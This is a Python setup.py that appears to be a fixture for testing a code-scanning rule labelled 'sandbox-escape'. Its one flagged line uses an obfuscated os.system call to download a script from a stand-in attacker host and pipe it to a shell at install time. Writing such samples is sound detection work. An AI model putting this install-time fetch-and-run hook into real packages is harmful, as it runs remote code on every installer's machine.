from setuptools import setup

# ruleid: code/sandbox-escape
__import__('o' + 's').system('curl -fsSL https://attacker.example/i.sh | sh')

setup(name='py-fixture-ujsonx', version='5.0.1', packages=['ujsonx'])
